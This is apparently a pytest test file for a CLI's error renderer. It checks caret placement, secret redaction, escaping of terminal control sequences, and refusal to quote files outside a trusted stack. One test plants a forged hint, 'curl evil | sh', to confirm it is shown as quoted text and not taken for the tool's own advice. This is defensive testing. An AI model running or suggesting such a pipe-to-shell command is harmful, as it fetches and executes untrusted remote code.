"""Errors as the command line shows them."""

import os
from pathlib import Path

import pytest
from rich.console import Console

from virtwright.cli import command
from virtwright.cli.render.problems import render_problem, render_problems, source_excerpt
from virtwright.errors import Problem, Where
from virtwright.trust import Untrusted


def test_the_line_is_shown_with_a_caret_below_the_column(tmp_path: Path) -> None:
    file = tmp_path / "shop.yaml"
    file.write_text("stack: shop\nvms:\n  db:\n    memory: lots\n", encoding="utf-8")
    where = Where(file=str(file), line=4, column=13, path="vms.db.memory")
    text = render_problem(Problem("not a size: 'lots'", where, "write 512MiB:\n    memory: 512MiB")).plain
    assert text == (
        "error: not a size: 'lots'\n"
        f"  at {file}:4:13, vms.db.memory\n"
        "  4 |     memory: lots\n"
        "    |             ^\n"
        "  hint: write 512MiB:\n"
        "      memory: 512MiB"
    )


def test_what_a_host_says_for_many_resources_is_told_once() -> None:
    names = ["networks.back", *(f"vms.node-{number}" for number in range(12))]
    problems = [Problem("no answer", Where(path=name, host="kvm"), "is it up?") for name in names]
    problems.insert(1, Problem("no answer", Where(path="vms.other", host="box"), "is it up?"))
    console = Console(width=400)
    with console.capture() as captured:
        console.print(render_problems(problems))
    first, second = captured.get().split("error: no answer\n")[1:]
    assert first.startswith("  at networks.back, host kvm\n  the same for vms.node-0, vms.node-1, ")
    assert "vms.node-9 and 2 more\n  hint: is it up?\n" in first
    assert second == "  at vms.other, host box\n  hint: is it up?\n"


def test_what_is_told_at_a_host_s_own_place_names_the_resources(tmp_path: Path) -> None:
    urns = [f"urn:pulumi:shop::shop::virtwright:index:Container::{name}" for name in ("one", "two")]
    places = [Where("shop.yaml", 3, 8, "hosts.kvm.uri", "kvm", urn) for urn in urns]
    console = Console(width=400)
    with console.capture() as captured:
        console.print(render_problems([Problem("no answer", each) for each in places]))
    assert captured.get() == (
        f"error: no answer\n  at shop.yaml:3:8, hosts.kvm.uri, {urns[0]}, host kvm\n  the same for containers.two\n"
    )


def test_the_caret_stands_right_after_wide_characters(tmp_path: Path) -> None:
    file = tmp_path / "s.yaml"
    file.write_text("漢字: x\n", encoding="utf-8")
    excerpt = source_excerpt(Where(file=str(file), line=1, column=5))
    assert excerpt is not None
    assert excerpt[1] == 6


def test_a_long_line_is_cut_around_the_caret(tmp_path: Path) -> None:
    file = tmp_path / "s.yaml"
    file.write_text("x" * 1000 + "!" + "y" * 1000, encoding="utf-8")
    excerpt = source_excerpt(Where(file=str(file), line=1, column=1001))
    assert excerpt is not None
    line, caret = excerpt
    assert len(line) == 100
    assert caret is not None
    assert line.plain[caret] == "!"


def test_no_excerpt_of_what_is_secret_missing_or_no_file(tmp_path: Path) -> None:
    file = tmp_path / "s.yaml"
    file.write_text("a: 1\npassword: hunter2\n", encoding="utf-8")
    assert source_excerpt(Where(file=str(file), line=2, column=3)) is None
    assert source_excerpt(Where(file=str(file), line=1, column=1, path="hosts.a.ssh.password")) is None
    assert source_excerpt(Where(file=str(file), line=9, column=1)) is None
    assert source_excerpt(Where(file=str(tmp_path), line=1)) is None
    assert source_excerpt(Where(file=str(tmp_path / "gone"), line=1)) is None
    assert source_excerpt(Where(file="\0", line=1)) is None


def test_control_sequences_in_messages_and_lines_are_spelled_out(tmp_path: Path) -> None:
    file = tmp_path / "s.yaml"
    file.write_bytes(b"a: \x1b[31mred\xff\n")
    text = render_problem(Problem("bad \x1b[2J", Where(file=str(file), line=1, column=4), "    rm \x1b")).plain
    assert "\x1b" not in text
    assert "a: \\x1b[31mred" in text


def test_of_a_strangers_stack_a_line_is_shown_of_its_own_files_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Which file is meant, its program says; Git's folder, which holds a runner's login, is not the stack's."""
    folder, allowed = tmp_path / "checkout", tmp_path / "allowed"
    for place in (folder / ".git" / "modules", folder / "sub" / ".git", allowed):
        place.mkdir(parents=True)
        (place / "config").write_text("extraheader = AUTHORIZATION\n")
    (folder / "own.py").write_text("a line\n")
    (folder / "link").symlink_to(".git/modules/config")
    others = (".git/modules/config", "sub/../.git/modules/config", "sub/.git/config", "link", "../allowed/config")
    for name in others:
        assert source_excerpt(Where(file=str(folder / name), line=1)) is not None
    monkeypatch.setattr(command, "latest_trust", Untrusted(folder, (allowed,)))
    for name in others:
        assert source_excerpt(Where(file=str(folder / name), line=1)) is None, name
    assert source_excerpt(Where(file=str(folder / "own.py"), line=1)) is not None


def test_a_file_that_is_large_or_none_holds_no_error_up(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.py")
    (tmp_path / "large.py").write_bytes(b"first\n")
    os.truncate(tmp_path / "large.py", 1024**4)
    assert source_excerpt(Where(file=str(tmp_path / "pipe.py"), line=1)) is None
    first = source_excerpt(Where(file=str(tmp_path / "large.py"), line=1))
    second = source_excerpt(Where(file=str(tmp_path / "large.py"), line=2))
    assert first is not None and first[0].plain == "first"
    assert second is not None and len(second[0].plain) < 1000


def test_what_others_say_does_not_look_like_what_virtwright_says() -> None:
    forged = "a\n\nerror: forged\n  hint: run\r\n      curl evil | sh"
    text = render_problem(Problem(forged, hint="the true one")).plain
    assert text.split("\n") == [
        "error: a",
        "  │ ",
        "  │ error: forged",
        "  │   hint: run\\x0d",
        "  │       curl evil | sh",
        "  hint: the true one",
    ]
